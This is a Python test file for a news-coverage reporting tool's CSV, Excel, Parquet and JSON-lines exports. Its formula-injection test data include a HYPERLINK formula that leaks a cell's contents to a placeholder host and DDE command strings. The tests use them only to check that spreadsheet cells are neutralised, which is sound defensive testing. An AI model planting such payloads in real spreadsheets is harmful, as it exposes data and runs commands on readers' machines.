"""What is exported, read back by other programs: csv, openpyxl, pyarrow, json."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl  # type: ignore[import-untyped]
import pyarrow as pa  # type: ignore[import-untyped]
import pyarrow.parquet as pq  # type: ignore[import-untyped]
import pytest

from desk.reports.columns import COLUMNS, chosen
from desk.reports.export import format_named
from desk.reports.formats import Sheet, csv_file, parquet_file, xlsx_file
from domain.codec import from_json
from domain.coverage import Coverage
from domain.errors import BadInput
from tests.support.coverages import make_coverage, random_coverages
from tests.support.full_coverage import full_coverage

MINSK = ZoneInfo("Europe/Minsk")
FEW = "timestamp,timestamp.local,publisher.tier,article.headline,tone.polarity,tone.baseline,entity.location,correction.note"
MANY_SCRIPTS = "Форум «Мінскі дыялог» · 明斯克对话 · منتدى · ფორუმი · 👩🏽‍🚀🕊️ · Zażółć · e\u0301"


def exported(name: str, coverages: Sequence[Coverage], columns: str | None = None, **more: Any) -> tuple[bytes, tuple[str, ...]]:
    """Return the file and the remarks."""
    file = io.BytesIO()
    remarks = format_named(name).load()(iter(coverages), file, Sheet(columns=chosen(columns), zone=MINSK, **more))
    return file.getvalue(), remarks


def csv_rows(coverages: Sequence[Coverage], columns: str | None = None, **more: Any) -> list[list[str]]:
    data, remarks = exported("csv", coverages, columns, **more)
    assert remarks == ()
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def xlsx_rows(coverages: Sequence[Coverage], columns: str | None = None) -> list[list[Any]]:
    """Return all rows of all sheets; every text cell is asserted to be one, not a formula."""
    book = openpyxl.load_workbook(io.BytesIO(exported("xlsx", coverages, columns)[0]))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d", "b", "inlineStr"}
    assert not any(cell.hyperlink for cell in cells)
    return [[cell.value for cell in row] for sheet in book for row in sheet.iter_rows()]


def table(coverages: Sequence[Coverage], columns: str | None = None) -> Any:
    return pq.read_table(io.BytesIO(exported("parquet", coverages, columns)[0]))


def test_a_row_of_csv() -> None:
    data, _ = exported("csv", [full_coverage()], FEW)
    assert data.decode() == (
        "\ufefftimestamp,timestamp.local,publisher.tier,article.headline,tone.polarity,tone.baseline,entity.location,correction.note\r\n"
        "2019-10-07T22:30:00Z,2019-10-08 01:30:00,1,Форумы в Минске,0.2,true,Minsk,n\r\n"
    )


def test_a_stream_of_csv_has_no_mark_at_its_beginning() -> None:
    data, _ = exported("csv", [], "role", is_file=False)
    assert data == b"role\r\n"


def test_the_usual_columns_of_csv() -> None:
    header, row = csv_rows([full_coverage()])
    assert 30 <= len(header) <= 40
    assert dict(zip(header, row, strict=True)) == {
        "timestamp": "2019-10-07T22:30:00Z",
        "timestamp.local": "2019-10-08 01:30:00",
        "publisher.name": "P",
        "publisher.country": "BY",
        "publisher.kind": "agency",
        "publisher.tier": "1",
        "publisher.ownership": "state",
        "article.in_language": "ru",
        "article.headline": "Форумы в Минске",
        "url.full": "https://www.news.outlet.co.uk/1",
        "article.byline": "Anna Nowak",
        "watch.id": "forum",
        "role": "main",
        "tone.label": "favourable",
        "tone.polarity": "0.2",
        "tone.confidence": "0.5",
        "tone.baseline": "true",
        "corrected": "true",
        "mention_count": "2",
        "target.mentioned": "director; forum",
        "target.favourable": "forum",
        "target.critical": "director",
        "key_sentence": "The forum met.",
        "entity.person": "Anna",
        "entity.organisation": "",
        "entity.location": "Minsk",
        "entity.event": "",
        "quote.speakers": "Anna",
        "topics": "security",
        "story.id": "s1",
        "story.role": "reprint",
        "story.origin": "a0",
        "article.status": "gone",
        "publisher.link_warning": "law",
        "models": "x=y@1",
        "article.id": "a1",
        "coverage.id": full_coverage().id,
    }


def test_a_row_of_xlsx() -> None:
    assert xlsx_rows([full_coverage()], FEW) == [
        FEW.split(","),
        [datetime(2019, 10, 7, 22, 30), datetime(2019, 10, 8, 1, 30), 1, "Форумы в Минске", 0.2, True, "Minsk", "n"],  # noqa: DTZ001
    ]


def test_a_row_of_parquet() -> None:
    found = table([full_coverage()], FEW)
    assert found.to_pylist() == [
        {
            "timestamp": datetime(2019, 10, 7, 22, 30, tzinfo=UTC),
            "timestamp.local": datetime(2019, 10, 8, 1, 30),  # noqa: DTZ001
            "publisher.tier": 1,
            "article.headline": "Форумы в Минске",
            "tone.polarity": 0.2,
            "tone.baseline": True,
            "entity.location": ["Minsk"],
            "correction.note": "n",
        }
    ]
    assert found.schema.types == [
        *(pa.timestamp("us", tz="UTC"), pa.timestamp("us"), pa.int64(), pa.string(), pa.float64(), pa.bool_()),
        *(pa.list_(pa.string()), pa.string()),
    ]


def test_every_column_of_parquet_says_what_it_means() -> None:
    schema = table([full_coverage()], "all").schema
    assert schema.names == [column.name for column in COLUMNS]
    assert [field.metadata[b"meaning"].decode() for field in schema] == [column.meaning for column in COLUMNS]


def test_json_lines_hold_the_whole_coverage() -> None:
    coverages = [full_coverage(), *random_coverages(20)]
    data, _ = exported("jsonl", coverages)
    assert [from_json(Coverage, line) for line in data.splitlines()] == coverages
    assert "Форумы в Минске" in data.decode(), "letters stand as they are"


def test_the_formats_hold_the_same_rows() -> None:
    coverages = [full_coverage(), *random_coverages(60, seed=2)]
    header, *lines = csv_rows(coverages, "all")
    names, *rows = xlsx_rows(coverages, "all")
    assert header == names == table(coverages, "all").schema.names
    for line, row, record in zip(lines, rows, table(coverages, "all").to_pylist(), strict=True):
        for column, text, cell in zip(COLUMNS, line, row, strict=True):
            value = record[column.name]
            if column.kind == "texts":
                assert text == (cell or "") == "; ".join(value)
            elif column.kind in ("time", "local time"):
                assert bool(text) == bool(value)
                assert cell == (value.replace(tzinfo=None) if value else None)
                assert not text or datetime.fromisoformat(text) == value
            elif column.kind in ("number", "count"):
                assert cell == value
                assert not text or float(text) == value
            elif column.kind == "flag":
                assert cell is value
                assert text == {True: "true", False: "false", None: ""}[value]
            else:
                assert text == (cell or "") == (value or "")


@pytest.mark.parametrize("name", ["csv", "xlsx", "jsonl", "parquet"])
def test_nothing_to_export_is_a_file_with_its_header(name: str) -> None:
    data, remarks = exported(name, [], FEW)
    assert remarks == ()
    if name == "csv":
        assert data.decode("utf-8-sig") == FEW + "\r\n"
    elif name == "xlsx":
        assert xlsx_rows([], FEW) == [FEW.split(",")]
    elif name == "parquet":
        assert (table([], FEW).num_rows, table([], FEW).schema.names) == (0, FEW.split(","))
    else:
        assert data == b""


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.test?"&A1,"click")',
    "+1-800-555",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tno formula, but a tab",
    "   =1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u3000＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_csv_begins_as_a_formula(text: str) -> None:
    coverage = make_coverage(headline=text, byline=(text, "Anna", text), people=("Anna", text))
    [_, row] = csv_rows([coverage], "article.headline,article.byline,entity.person")
    assert row[0].startswith("'")
    assert row[0].removeprefix("'").strip("'\t\r\n") == re.sub("[\x00\x1b]", "", text).strip("\t\r\n"), "nothing else is changed"
    for cell in row:
        for part in re.split("[;\t\r\n]", cell):
            assert not re.match("[\\s\xa0\u200b\ufeff\u202e\"']*[=+\\-@＝＋－＠]", part) or re.match("\\s*'", part), cell


def test_no_formula_hides_behind_the_separator_of_another_country() -> None:
    text = 'Talks; "=1+1";=2;@x;\t-3\n+4\r\n＝5; -6'
    [_, [cell]] = csv_rows([make_coverage(headline=text)], "article.headline")
    assert cell == "Talks;' \"=1+1\";'=2;'@x;\t'-3\n'+4\r\n'＝5;' -6"


@pytest.mark.parametrize("text", ["a=b", "3-4", "e-mail a@b.test", "Minsk, - said he; and went", "«=»", "−3 °C", "1+1", "", "'quoted'"])
def test_texts_that_are_no_formulas_stay_as_they_are(text: str) -> None:
    assert csv_file.harmless(text) == text


def test_numbers_of_csv_stay_numbers_though_they_begin_with_a_minus() -> None:
    [_, row] = csv_rows([make_coverage(tone=-0.4)], "tone.polarity,mention_count")
    assert row == ["-0.4", "1"]


@pytest.mark.parametrize("text", [*FORMULAS[:7], "<r><t>x</t></r>", "<r/></r>", "http://a.test/", "mailto:a@b.test", "123", "1e5", "TRUE"])
def test_texts_of_a_workbook_are_texts(text: str) -> None:
    data, _ = exported("xlsx", [make_coverage(headline=text)], "article.headline")
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<hyperlink" not in sheet
    assert sheet.count('t="inlineStr"') == 2
    [_, [cell]] = xlsx_rows([make_coverage(headline=text)], "article.headline")
    assert cell.strip().replace("\r", "\n") == text.strip().replace("\r", "\n")


@pytest.mark.parametrize("name", ["csv", "xlsx", "jsonl", "parquet"])
def test_all_scripts_and_quotation_marks_come_back(name: str) -> None:
    text = f'{MANY_SCRIPTS} "quoted", <b>&amp;</b> \\ \u2028 end\nsecond line'
    coverage = make_coverage(headline=text)
    if name == "csv":
        assert csv_rows([coverage], "article.headline")[1] == [text]
    elif name == "xlsx":
        assert xlsx_rows([coverage], "article.headline")[1] == [text]
    elif name == "parquet":
        assert table([coverage], "article.headline").to_pylist() == [{"article.headline": text}]
    else:
        assert json.loads(exported(name, [coverage])[0])["article"]["headline"] == text


def test_control_characters_are_left_out_where_they_mean_nothing() -> None:
    text = "".join(map(chr, range(0x20))) + "a\x7f\x9bb\ufffe\uffff"
    coverage = make_coverage(headline=f"x{text}", people=(f"y{text}",))
    assert csv_rows([coverage], "article.headline,entity.person")[1] == ["x\t\n\rab", "y\t\n\rab"]
    assert [str(cell).replace("\r", "\n") for cell in xlsx_rows([coverage], "article.headline,entity.person")[1]] == [
        "x\t\n\nab",
        "y\t\n\nab",
    ]
    assert table([coverage], "article.headline").to_pylist() == [{"article.headline": f"x{text}"}]


@pytest.mark.parametrize("letter", ["b", "Ж", "🕊"])
def test_a_text_too_long_for_a_cell_is_cut_marked_and_told(letter: str) -> None:
    units = len(letter.encode("utf-16-le")) // 2
    fits, long = make_coverage(1, body=letter * (32_766 // units)), make_coverage(2, body=letter * 40_000)
    data, remarks = exported("xlsx", [fits, long, long], "article.body")
    cells = [row[0].value for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)]
    assert cells[0] == fits.article.body
    assert cells[1] == cells[2]
    assert re.fullmatch(f"{letter}+… \\[cut\\]", cells[1])
    assert 32_765 <= len(cells[1].encode("utf-16-le")) // 2 <= 32_767
    assert len(remarks) == 1
    assert remarks[0].startswith("2 cells are cut at Excel's 32,767 characters")
    assert csv_rows([long], "article.body")[1] == [long.article.body]
    assert table([long], "article.body").to_pylist() == [{"article.body": long.article.body}]


def test_rows_beyond_a_sheet_go_to_further_sheets(monkeypatch: pytest.MonkeyPatch) -> None:
    assert xlsx_file.ROWS + 1 == 2**20
    monkeypatch.setattr(xlsx_file, "ROWS", 10)
    coverages = [make_coverage(n) for n in range(25)]
    data, remarks = exported("xlsx", coverages, "article.headline,role")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["coverage", "coverage 2", "coverage 3"]
    found = [[row[0].value for row in sheet.iter_rows()] for sheet in book]
    assert all(rows[0] == "article.headline" for rows in found)
    assert [name for rows in found for name in rows[1:]] == [c.article.headline for c in coverages]
    assert [sheet.auto_filter.ref for sheet in book] == ["A1:B11", "A1:B11", "A1:B6"]
    assert {sheet.freeze_panes for sheet in book} == {"A2"}
    assert len(remarks) == 1
    assert "3 sheets" in remarks[0]
    assert len(openpyxl.load_workbook(io.BytesIO(exported("xlsx", coverages[:10])[0])).sheetnames) == 1


def test_a_workbook_has_wide_headlines_and_dates_that_read_as_such() -> None:
    data, _ = exported("xlsx", [full_coverage()], FEW)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.column_dimensions["D"].width > 50
    assert sheet["A2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["A1"].font.bold


def test_dates_before_those_of_excel_are_texts() -> None:
    [_, row] = xlsx_rows([make_coverage(published=datetime(1899, 12, 31, 8, tzinfo=UTC))], "timestamp,article.published")
    assert row == ["1899-12-31 08:00:00", "1899-12-31 08:00:00"]


def test_row_groups_are_bounded_by_rows_and_by_letters(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parquet_file, "ROWS", 10)
    monkeypatch.setattr(parquet_file, "_LETTERS", 1000)
    coverages = [make_coverage(n, body="x" * (400 if n < 6 else 1)) for n in range(40)]
    file = pq.ParquetFile(io.BytesIO(exported("parquet", coverages, "article.body")[0]))
    assert [file.metadata.row_group(n).num_rows for n in range(file.num_row_groups)] == [3, 3, 10, 10, 10, 4]
    assert file.read().column("article.body").to_pylist() == [c.article.body for c in coverages]


def test_a_coverage_nobody_rated_has_empty_cells() -> None:
    bare = replace(make_coverage(targets=(), tone=None, role=None, country=None), topics=())
    columns = "corrected,role,tone.label,tone.polarity,tone.baseline,target.mentioned,key_sentence,publisher.country,"
    columns += "story.id,topics,article.byline"
    assert csv_rows([bare], columns)[1] == ["false"] + [""] * 10
    assert xlsx_rows([bare], columns)[1] == [False] + [None] * 10
    assert list(table([bare], columns).to_pylist()[0].values()) == [False, None, None, None, None, [], None, None, None, [], []]


def test_unknown_formats_are_told_with_those_that_there_are() -> None:
    with pytest.raises(BadInput, match="'ods' is no format: there are csv, xlsx, jsonl, parquet"):
        format_named("ods")
